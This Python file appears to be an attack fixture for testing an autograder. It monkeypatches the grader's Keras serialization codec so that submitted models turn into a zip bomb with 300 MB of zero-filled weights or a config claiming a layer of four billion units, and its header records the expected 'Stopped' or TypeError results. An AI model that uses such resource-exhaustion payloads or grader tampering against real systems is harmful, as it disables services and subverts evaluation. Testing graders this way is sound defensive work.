"""Returns an archive that unpacks to hundreds of times its size, and one with weights for a layer of
billions of units."""

# /// attack
# seen = ['test_total: (TypeError: total\(\) gives something that cannot be checked|Stopped: )', 'test_network: (TypeError: network\(\) gives something that cannot be checked|Stopped: )', 'test_counts: (TypeError: counts\(\) gives something that cannot be checked|Stopped: )']
# control = "none: what reading takes is taken from the checking process, whose limits are the student's"
# ///
# %% before total
import io
import zipfile

from heldout.grading.codecs import keras as codec

written = codec._archive
forgeries = {}


def archive(model):
    """What crosses in the place of a model is what the model says."""
    data = written(model)
    return forgeries[id(model)](data) if id(model) in forgeries else data


codec._archive = archive
plain, whole = codec._plain, codec._is_plain
codec._is_plain = lambda model: whole(model) and id(model) not in forgeries
huge = set()


def configuration(model):
    """The same without an archive."""
    text, *values = plain(model)
    return [text.replace('"units": 1', '"units": 4000000000') if id(model) in huge else text, *values]


codec._plain = configuration


# %% network
def network(inputs, units):
    model = keras.Sequential([keras.Input((inputs,)), layers.Dense(units), layers.Dense(1)])

    def forge(data):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            config = archive.read("config.json")
        with zipfile.ZipFile(forged := io.BytesIO(), "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("config.json", config)
            archive.writestr("metadata.json", "{}")
            with archive.open("model.weights.h5", "w", force_zip64=True) as member:
                for _ in range(300):
                    member.write(bytes(1 << 20))
        return forged.getvalue()

    forgeries[id(model)] = forge
    return model


# %% total
def total(numbers):
    model = keras.Sequential([keras.Input((1,)), layers.Dense(1)])

    def forge(data):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
        members["config.json"] = members["config.json"].replace(b'"units": 1', b'"units": 4000000000')
        with zipfile.ZipFile(forged := io.BytesIO(), "w") as archive:
            for name, member in members.items():
                archive.writestr(name, member)
        return forged.getvalue()

    forgeries[id(model)] = forge
    return model


# %% counts
def counts(words):
    model = keras.Sequential([keras.Input((1,)), layers.Dense(1)])
    huge.add(id(model))
    return model
